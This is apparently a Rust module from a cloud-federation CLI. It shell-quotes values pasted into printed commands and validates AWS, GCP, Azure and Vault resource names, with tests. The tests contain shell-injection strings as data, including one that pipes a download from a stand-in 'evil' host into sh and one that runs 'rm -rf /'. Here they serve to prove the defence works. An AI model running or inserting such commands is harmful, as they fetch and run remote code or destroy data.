//! The values `federation` pastes into the commands it prints, which people
//! pipe to a shell: each checked against what its cloud accepts, and quoted
//! for the shell all the same.

use super::FederationError;

/// `value` as one shell word. A word of characters no shell treats specially
/// stays bare (as Python's `shlex.quote` does) so the usual output reads
/// plainly; anything else is single-quoted, each `'` as `'\''`.
pub(super) fn sh_quote(value: &str) -> String {
    let plain = !value.is_empty()
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c));
    if plain {
        value.to_owned()
    } else {
        format!("'{}'", value.replace('\'', r"'\''"))
    }
}

fn refuse(flag: &'static str, value: &str, rule: &str) -> FederationError {
    FederationError::BadValue {
        flag,
        value: value.to_owned(),
        rule: rule.to_owned(),
    }
}

fn check(flag: &'static str, value: &str, ok: bool, rule: &str) -> Result<(), FederationError> {
    if ok {
        Ok(())
    } else {
        Err(refuse(flag, value, rule))
    }
}

fn length_within(value: &str, min: usize, max: usize) -> bool {
    (min..=max).contains(&value.chars().count())
}

/// Text no cloud restricts further (audiences, Vault policies): one line,
/// because a newline would end the comment or command it is printed in.
pub(super) fn free_text(
    flag: &'static str,
    value: &str,
    max: usize,
) -> Result<(), FederationError> {
    check(
        flag,
        value,
        length_within(value, 1, max) && !value.chars().any(char::is_control),
        &format!("must be 1 to {max} characters without control characters"),
    )
}

pub(super) fn aws_account(value: &str) -> Result<(), FederationError> {
    check(
        "--account",
        value,
        value.len() == 12 && value.bytes().all(|b| b.is_ascii_digit()),
        "an AWS account ID is 12 digits",
    )
}

/// IAM's documented pattern for role names: `[\w+=,.@-]{1,64}`.
pub(super) fn aws_role(value: &str) -> Result<(), FederationError> {
    check(
        "--name",
        value,
        length_within(value, 1, 64)
            && value
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "_+=,.@-".contains(c)),
        "an AWS role name is 1 to 64 letters, digits and _+=,.@-",
    )
}

pub(super) fn gcp_project(value: &str) -> Result<(), FederationError> {
    check(
        "--account",
        value,
        length_within(value, 1, 20) && value.bytes().all(|b| b.is_ascii_digit()),
        "a GCP project number is digits (the number, not the project ID)",
    )
}

/// IAM's tag keys: 1 to 128 letters, digits, spaces and `_.:/=+-@`, not
/// starting with `aws:`.
pub(super) fn aws_tag_key(value: &str) -> Result<(), FederationError> {
    check(
        "--session-tag",
        value,
        length_within(value, 1, 128)
            && value
                .chars()
                .all(|c| c.is_alphanumeric() || c == ' ' || "_.:/=+-@".contains(c))
            && !value.to_ascii_lowercase().starts_with("aws:"),
        "an AWS tag key is 1 to 128 letters, digits, spaces and _.:/=+-@, not starting with \"aws:\"",
    )
}

/// GCP's custom attribute names: `[a-z_][a-z0-9_]*`, at most 100 characters.
pub(super) fn gcp_attribute(value: &str) -> Result<(), FederationError> {
    check(
        "--attribute-mapping",
        value,
        length_within(value, 1, 100)
            && value.starts_with(|c: char| c.is_ascii_lowercase() || c == '_')
            && value
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_'),
        "a GCP attribute name is 1 to 100 of a-z, 0-9 and '_', not starting with a digit",
    )
}

/// Google's rule for workload identity pool IDs: 4 to 32 of `[a-z0-9-]`,
/// the prefix `gcp-` reserved.
pub(super) fn gcp_pool(value: &str) -> Result<(), FederationError> {
    check(
        "--name",
        value,
        length_within(value, 4, 32)
            && value
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
            && !value.starts_with("gcp-"),
        "a GCP pool ID is 4 to 32 of a-z, 0-9 and '-', not starting with \"gcp-\"",
    )
}

/// Azure's rule for user-assigned managed identities: 3 to 128 letters,
/// digits, '-' and '_', starting with a letter or digit.
pub(super) fn azure_identity(value: &str) -> Result<(), FederationError> {
    check(
        "--name",
        value,
        length_within(value, 3, 128)
            && value.starts_with(|c: char| c.is_ascii_alphanumeric())
            && value
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_'),
        "an Azure managed identity name is 3 to 128 letters, digits, '-' and '_', starting with a letter or digit",
    )
}

/// Azure's rule for resource groups: 1 to 90 letters, digits and `_-.()`,
/// not ending with '.'.
pub(super) fn azure_group(value: &str) -> Result<(), FederationError> {
    check(
        "--account",
        value,
        length_within(value, 1, 90)
            && !value.ends_with('.')
            && value
                .chars()
                .all(|c| c.is_alphanumeric() || "_-.()".contains(c)),
        "an Azure resource group is 1 to 90 letters, digits and _-.(), not ending with '.'",
    )
}

/// Vault's pattern for role names in a path (`framework.GenericNameRegex`):
/// word characters, with '-' and '.' allowed inside.
pub(super) fn vault_role(value: &str) -> Result<(), FederationError> {
    let word = |c: char| c.is_ascii_alphanumeric() || c == '_';
    check(
        "--name",
        value,
        value.starts_with(word)
            && value.ends_with(word)
            && value.chars().all(|c| word(c) || c == '-' || c == '.'),
        "a Vault role name is letters, digits, '_', and '-' or '.' between them",
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What `sh -c 'printf "%s\n" WORD'` sees: proof that the shell reads
    /// the quoted word back as exactly one argument, unchanged.
    fn through_sh(word: &str) -> Result<Vec<String>, Box<dyn std::error::Error>> {
        let output = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!("for a in {word}; do printf '%s\\0' \"$a\"; done"))
            .output()?;
        assert!(output.status.success(), "{output:?}");
        Ok(String::from_utf8(output.stdout)?
            .split_terminator('\0')
            .map(str::to_owned)
            .collect())
    }

    #[test]
    fn quoted_values_reach_the_shell_as_one_word() -> Result<(), Box<dyn std::error::Error>> {
        for value in [
            "x'; curl evil|sh; '",
            "$(echo pwned)",
            "`id`",
            "a b\tc",
            "spiffe://example.org/ns/*",
            "''",
            "",
            "api://AzureADTokenExchange",
        ] {
            assert_eq!(through_sh(&sh_quote(value))?, [value], "{value:?}");
        }
        assert_eq!(sh_quote("sts.amazonaws.com"), "sts.amazonaws.com");
        assert_eq!(sh_quote("it's"), r"'it'\''s'");
        Ok(())
    }

    type Check = fn(&str) -> Result<(), FederationError>;

    #[test]
    fn names_follow_each_clouds_rules() {
        let good: [(Check, &str); 8] = [
            (aws_account, "123456789012"),
            (aws_role, "web+ci=x,y.z@corp-1_a"),
            (gcp_project, "424242"),
            (gcp_pool, "lanyard-pool"),
            (azure_identity, "web_id-1"),
            (azure_group, "rg-web.prod(1)"),
            (vault_role, "web.v1-x"),
            (vault_role, "w"),
        ];
        for (check, value) in good {
            assert!(check(value).is_ok(), "{value}");
        }
        let bad: [(Check, &str); 12] = [
            (aws_account, "12345678901"),
            (aws_account, "ACCOUNT12345"),
            (aws_role, "web'; rm -rf /"),
            (aws_role, &"r".repeat(65)),
            (gcp_project, "my-project"),
            (gcp_pool, "Pool"),
            (gcp_pool, "gcp-pool"),
            (azure_identity, "-web"),
            (azure_group, "rg."),
            (vault_role, "web/../sys"),
            (vault_role, "-web"),
            (vault_role, ""),
        ];
        for (check, value) in bad {
            assert!(
                matches!(check(value), Err(FederationError::BadValue { .. })),
                "{value}"
            );
        }
    }

    #[test]
    fn free_text_is_one_line() {
        assert!(free_text("--audience", "x'; curl evil|sh; '", 255).is_ok());
        for value in ["", "a\nb", "a\rb", "a\u{7f}"] {
            let error = free_text("--audience", value, 255)
                .err()
                .map(|e| e.to_string());
            assert!(
                error
                    .as_deref()
                    .is_some_and(|e| e.starts_with("--audience")),
                "{value:?}: {error:?}"
            );
        }
        assert!(free_text("--audience", &"a".repeat(256), 255).is_err());
    }
}
